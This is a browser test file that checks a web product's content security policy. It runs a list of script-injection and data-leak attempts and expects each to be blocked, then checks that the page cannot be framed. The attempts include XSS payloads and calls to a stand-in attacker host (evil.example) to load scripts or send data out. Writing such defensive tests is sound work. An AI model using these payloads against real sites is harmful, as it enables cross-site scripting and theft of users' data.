import { expect, test } from '../fixtures.ts'
import { policyReportsIn, watchPolicy } from '../policy.ts'
import { startProduct } from '../product.ts'

/** What an attacker would do who had found a way to have it done; each must throw or come to nothing. */
const attempts: readonly (() => unknown)[] = [
  () => (document.body.innerHTML = '<img src=x onerror="window.harmed = 1">'),
  () => (document.body.outerHTML = '<body>&amp;</body>'),
  () => document.body.insertAdjacentHTML('beforeend', '<b>harm</b>'),
  () => new DOMParser().parseFromString('<script>window.harmed = 1</script>', 'text/html'),
  () => document.createRange().createContextualFragment('<script>window.harmed = 1</script>'),
  () => document.write('<script>window.harmed = 1</script>'),
  () => {
    const script = document.createElement('script')
    script.text = 'window.harmed = 1'
    document.body.append(script)
  },
  () => {
    const script = document.createElement('script')
    script.src = 'https://evil.example/harm.js'
    document.body.append(script)
  },
  () => {
    const script = document.createElement('script')
    script.src = `${window.location.origin}/assets/../api/v1/session`
    document.body.append(script)
  },
  () => {
    const script = document.createElement('script')
    script.src = 'data:text/javascript,window.harmed=1'
    document.body.append(script)
  },
  () => new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))),
  () => new SharedWorker('data:text/javascript,1'),
  () => document.body.setAttribute('onclick', 'window.harmed = 1'),
  () => {
    const link = document.createElement('a')
    link.href = 'javascript:window.harmed = 1'
    document.body.append(link)
    link.click()
  },
  () => {
    const frame = document.createElement('iframe')
    frame.srcdoc = '<script>parent.harmed = 1</script>'
    document.body.append(frame)
  },
  () => {
    const frame = document.createElement('iframe')
    frame.src = 'https://evil.example/'
    document.body.append(frame)
  },
  () => {
    const object = document.createElement('object')
    object.data = 'data:text/html,<script>parent.harmed=1</script>'
    document.body.append(object)
  },
  () => {
    const base = document.createElement('base')
    base.href = 'https://evil.example/'
    document.head.append(base)
  },
  () => {
    const style = document.createElement('style')
    style.textContent = '@import "https://evil.example/harm.css"'
    document.head.append(style)
  },
  () => new Image().setAttribute('src', 'https://evil.example/told?what=name'),
  () => void fetch('https://evil.example/told').catch(() => {}),
  () => navigator.sendBeacon('https://evil.example/told'),
  () => new WebSocket('wss://evil.example/'),
  () => (window as unknown as Trusting).trustedTypes.createPolicy('another', {}),
]

/** The same, where to write it as code would be an offence here as well. */
const evals = [
  `eval('window.harmed = 1')`,
  `new Function('window.harmed = 1')()`,
  `setTimeout('window.harmed = 1', 0)`,
  `import('data:text/javascript,window.harmed=1').catch(() => {})`,
]

interface Trusting {
  trustedTypes: { createPolicy: (name: string, rules: object) => unknown }
}

test('whatever gets into the page runs nothing, loads nothing and tells nobody but us', async ({
  browser,
  simulator,
}) => {
  const product = await startProduct(['--cm-url', simulator.url])
  const context = await browser.newContext({ baseURL: product.url })
  const stopped = await watchPolicy(context)
  const page = await context.newPage()
  const left: string[] = []
  context.on('response', (response) => {
    if (!response.url().startsWith(product.url)) left.push(response.url())
  })

  await page.goto('/components')
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible()

  for (const attempt of [...attempts.map((one) => `(${String(one)})()`), ...evals]) {
    const before = stopped.length
    // Later: what the debugger itself runs is bound by no policy.
    await page.evaluate(`void setTimeout(() => { try { ${attempt} } catch {} }, 0)`)
    await expect.poll(() => stopped.length, { message: attempt }).toBeGreaterThan(before)
    expect(await page.evaluate(() => 'harmed' in window)).toBe(false)
  }

  expect(left).toEqual([])
  await expect
    .poll(() => policyReportsIn(product.said()).length)
    .toBeGreaterThan(attempts.length / 2)
  await context.close()
  await product.end()
})

test('nobody can put the page into a frame', async ({ browser, simulator }) => {
  const product = await startProduct(['--cm-url', simulator.url])
  const context = await browser.newContext()
  const page = await context.newPage()
  await page.goto(`${product.url}/healthz`)
  const hostile = await context.newPage()
  await hostile.setContent(`<iframe src="${product.url}/components"></iframe>`)

  await expect.poll(() => hostile.frames().length).toBe(2)
  const [, framed] = hostile.frames()
  await expect.poll(() => framed?.url()).toBe('chrome-error://chromewebdata/')
  await context.close()
  await product.end()
})
